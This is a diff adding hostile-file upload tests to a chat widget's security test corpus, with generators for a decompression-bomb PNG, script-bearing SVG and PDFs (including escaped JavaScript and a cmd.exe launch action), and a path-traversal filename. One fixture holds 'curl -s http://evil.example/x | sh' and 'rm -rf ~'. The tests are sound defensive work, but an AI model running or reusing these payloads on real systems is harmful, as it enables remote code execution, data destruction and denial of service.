@@ -31,8 +31,10 @@ import contextlib
 import json
 import os
 import re
+import struct
 import sys
 import time
+import zlib
 from collections.abc import Callable, Iterator, Mapping, Sequence
 from contextlib import AbstractContextManager
 from dataclasses import dataclass, field
@@ -279,7 +281,33 @@ class SessionFloodCase:
         return f"HTTP POST /chat/api/session x{self.count}"
 
 
-Case = HttpCase | WsCase | SessionFloodCase
+@dataclass(frozen=True)
+class UploadCase:
+    """A file sent to ``/chat/api/attachments`` as the widget sends it (multipart, one part
+    named ``file``) for a conversation of its own; the refusal's ``code`` is checked too.
+
+    ``oversize``: instead of ``data``, a JPEG-looking body of this many bytes, made as it is
+    sent (the corpus itself stays small)."""
+
+    name: str
+    filename: str
+    data: bytes = b""
+    expect_status: frozenset[int] = frozenset({422})
+    expect_code: str | None = None
+    oversize: int = 0
+    auth: Literal["conversation", "none", "wrong-token"] = "conversation"
+
+    def body_bytes(self) -> bytes:
+        if self.oversize:
+            return b"\xff\xd8\xff\xe0" + bytes(self.oversize - 4)
+        return self.data
+
+    def sends(self) -> str:
+        size = self.oversize or len(self.data)
+        return f"HTTP POST /chat/api/attachments ({self.auth}, {self.filename!r}, {size} bytes)"
+
+
+Case = HttpCase | WsCase | SessionFloodCase | UploadCase
 
 
 @dataclass(frozen=True)
@@ -289,6 +317,7 @@ class Limits:
     connection_burst: int = 8
     conversation_burst: int = 16
     sessions_per_ip_burst: int = 30
+    attachment_max_bytes: int = 10 * KB * KB
 
 
 def _frame_type(raw: str) -> Any:
@@ -1148,6 +1177,164 @@ def console_cases() -> list[HttpCase]:
     return cases
 
 
+# ---------------------------------------------------------------- hostile files
+# Made with the standard library only, so the corpus runs anywhere (docs/evidence.md).
+
+
+def _png_chunk(kind: bytes, payload: bytes) -> bytes:
+    body = kind + payload
+    return struct.pack(">I", len(payload)) + body + struct.pack(">I", zlib.crc32(body))
+
+
+def decompression_bomb_png(side: int = 60_000) -> bytes:
+    """A PNG whose header claims ``side`` x ``side`` pixels (3.6 billion by default: over 10 GB
+    decoded), with a small, highly compressed block of zeros as its data."""
+    header = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)  # 8-bit RGB
+    rows = zlib.compress(bytes(1 + 3 * side) * 64, 9)  # a few rows of zeros, squeezed
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + _png_chunk(b"IHDR", header)
+        + _png_chunk(b"IDAT", rows)
+        + _png_chunk(b"IEND", b"")
+    )
+
+
+def script_renamed_jpg() -> bytes:
+    """A shell script a shopper (or an attacker) named ``holiday.jpg``."""
+    return b"#!/bin/sh\ncurl -s http://evil.example/x | sh\nrm -rf ~\n"
+
+
+def svg_with_script() -> bytes:
+    return (
+        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" '
+        b'height="10"><script>fetch("/console/api/me").then(r=>r.text()).then(alert)</script>'
+        b'<rect width="10" height="10"/></svg>\n'
+    )
+
+
+def _pdf(objects: Sequence[bytes]) -> bytes:
+    """A minimal, well-formed PDF of these objects (1 0 obj is the catalog)."""
+    out = bytearray(b"%PDF-1.7\n")
+    offsets = []
+    for number, body in enumerate(objects, start=1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
+    xref = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
+    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
+        len(objects) + 1,
+        xref,
+    )
+    return bytes(out)
+
+
+def plain_pdf() -> bytes:
+    """A harmless one-page PDF (what a receipt looks like to the checks)."""
+    return _pdf(
+        [
+            b"<< /Type /Catalog /Pages 2 0 R >>",
+            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
+        ]
+    )
+
+
+def pdf_with_javascript(escaped: bool = False) -> bytes:
+    """A PDF that runs JavaScript when opened (``/OpenAction``); ``escaped`` writes the names
+    with ``#`` hex escapes (``/J#61vaScript``) as evasive files do."""
+    action = (
+        b"<< /S /J#61vaScript /J#53 (app.alert('pwned')) >>"
+        if escaped
+        else b"<< /S /JavaScript /JS (app.alert('pwned')) >>"
+    )
+    key = b"/Op#65nAction" if escaped else b"/OpenAction"
+    return _pdf(
+        [
+            b"<< /Type /Catalog /Pages 2 0 R " + key + b" 4 0 R >>",
+            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
+            action,
+        ]
+    )
+
+
+def pdf_with_launch() -> bytes:
+    """A PDF whose page, when opened, asks the viewer to launch a program."""
+    return _pdf(
+        [
+            b"<< /Type /Catalog /Pages 2 0 R >>",
+            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O 4 0 R >> >>",
+            b"<< /S /Launch /F (cmd.exe) >>",
+        ]
+    )
+
+
+def attachment_cases(max_bytes: int = 10 * KB * KB) -> list[UploadCase]:
+    """Hostile files for the widget's upload: each refused with its own clear code."""
+    refused_by_content = [
+        # (case name, file name, bytes, refusal code)
+        ("script-renamed-jpg", "holiday.jpg", script_renamed_jpg(), "unsupported_type"),
+        ("decompression-bomb-png", "bomb.png", decompression_bomb_png(), "too_many_pixels"),
+        ("svg-with-script", "cute.svg", svg_with_script(), "svg_refused"),
+        ("svg-named-png", "cute.png", svg_with_script(), "svg_refused"),
+        ("pdf-with-javascript", "receipt.pdf", pdf_with_javascript(), "pdf_active_content"),
+        (
+            "pdf-with-escaped-javascript",
+            "receipt.pdf",
+            pdf_with_javascript(escaped=True),
+            "pdf_active_content",
+        ),
+        ("pdf-with-launch", "invoice.pdf", pdf_with_launch(), "pdf_active_content"),
+        ("empty-file", "empty.jpg", b"", "empty_file"),
+        ("truncated-png", "cut.png", decompression_bomb_png(4)[:-16], "unreadable_file"),
+        (
+            "html-named-jpg",
+            "photo.jpg",
+            b"<html><script>alert(1)</script></html>",
+            "unsupported_type",
+        ),
+        (
+            "filename-path-traversal",
+            "../../../etc/passwd\u202e.jpg",
+            script_renamed_jpg(),
+            "unsupported_type",
+        ),
+    ]
+    cases = [
+        UploadCase(f"upload-{name}", filename, data, expect_code=code)
+        for name, filename, data, code in refused_by_content
+    ]
+    unauthorised = frozenset({401})
+    return [
+        *cases,
+        UploadCase(
+            "upload-oversize-jpeg",
+            "huge.jpg",
+            oversize=max_bytes + 256 * KB,
+            expect_status=frozenset({413}),
+            expect_code="file_too_large",
+        ),
+        UploadCase(
+            "upload-no-conversation",
+            "photo.jpg",
+            script_renamed_jpg(),
+            expect_status=unauthorised,
+            expect_code="bad_conversation",
+            auth="none",
+        ),
+        UploadCase(
+            "upload-wrong-token",
+            "photo.jpg",
+            script_renamed_jpg(),
+            expect_status=unauthorised,
+            expect_code="bad_conversation",
+            auth="wrong-token",
+        ),
+    ]
+
+
 def corpus(limits: Limits | None = None) -> list[Case]:
     """Every case, floods last."""
     limits = limits or Limits()
@@ -1157,6 +1344,7 @@ def corpus(limits: Limits | None = None) -> list[Case]:
     cases += session_cases()
     cases += bot_api_cases()
     cases += console_cases()
+    cases += attachment_cases(limits.attachment_max_bytes)
     cases += floods
     cases.append(
         SessionFloodCase("flood-new-sessions-from-one-client", limits.sessions_per_ip_burst + 10)
@@ -1238,6 +1426,7 @@ class Runner:
         self.console_password = console_password
         self.reply_timeout = reply_timeout
         self._pooled: Conversation | None = None
+        self._uploads: Conversation | None = None  # the upload cases' conversation
         self._console: tuple[str, str] | None = None  # (cookie, csrf)
         self._sockets = 0
 
@@ -1299,6 +1488,8 @@ class Runner:
                     result.problems = self.run_http(case)
                 elif isinstance(case, WsCase):
                     result.problems = self.run_ws(case)
+                elif isinstance(case, UploadCase):
+                    result.problems = self.run_upload(case)
                 else:
                     result.problems = self.run_session_flood(case)
             except Exception as exc:  # a crash of the runner is a failed case, with the reason
@@ -1326,6 +1517,37 @@ class Runner:
             headers[key.lower()] = value
         reply = self.door.http(case.method, case.path, headers, case.body)
         return check_http(reply, case.expect_status)
+
+    def run_upload(self, case: UploadCase) -> list[str]:
+        """The file as a browser's FormData sends it; refused files leave the count alone, so
+        one conversation serves every case."""
+        if self._uploads is None:
+            self._uploads = self.new_conversation()
+        boundary = "tierline-hostile-boundary"
+        name = case.filename.replace('"', "%22").replace("\r", "").replace("\n", "")
+        body = (
+            (
+                f"--{boundary}\r\n"
+                f'Content-Disposition: form-data; name="file"; filename="{name}"\r\n'
+                "Content-Type: image/jpeg\r\n\r\n"
+            ).encode()
+            + case.body_bytes()
+            + f"\r\n--{boundary}--\r\n".encode()
+        )
+        headers = {"content-type": f"multipart/form-data; boundary={boundary}"}
+        if case.auth != "none":
+            headers["x-conversation-id"] = self._uploads.conversation_id
+            token = self._uploads.token if case.auth == "conversation" else "not-the-token"
+            headers["x-conversation-token"] = token
+        reply = self.door.http("POST", "/chat/api/attachments", headers, body)
+        problems = check_http(reply, case.expect_status)
+        body_json = reply.json()
+        detail = body_json.get("detail") if isinstance(body_json, dict) else None
+        code = detail.get("code") if isinstance(detail, dict) else None
+        # The public door's proxy refuses an oversize upload itself, with the desk's code.
+        if case.expect_code and code != case.expect_code:
+            problems.append(f"refusal code {code!r}, expected {case.expect_code!r}")
+        return problems
 
     def run_session_flood(self, case: SessionFloodCase) -> list[str]:
         problems: list[str] = []
